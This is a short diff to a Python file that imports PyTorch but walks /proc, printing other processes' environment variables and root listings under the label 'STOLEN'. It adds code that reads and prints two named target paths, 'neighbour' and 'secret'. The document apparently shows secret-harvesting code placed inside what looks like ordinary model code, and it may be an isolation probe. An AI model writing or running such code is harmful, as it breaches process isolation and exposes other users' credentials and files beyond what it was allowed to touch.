@@ -1,4 +1,5 @@
 import os
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -46,3 +47,9 @@ for name in os.listdir("/proc"):
             print("STOLEN", open(f"/proc/{name}/environ").read()[:80], os.listdir(f"/proc/{name}/root"))
         except OSError:
             pass
+# Names may be hidden from whoever knows none: I was told some.
+for path in (targets.neighbour, targets.secret):
+    try:
+        print("STOLEN", open(path).read())
+    except OSError as error:
+        print(error.strerror)
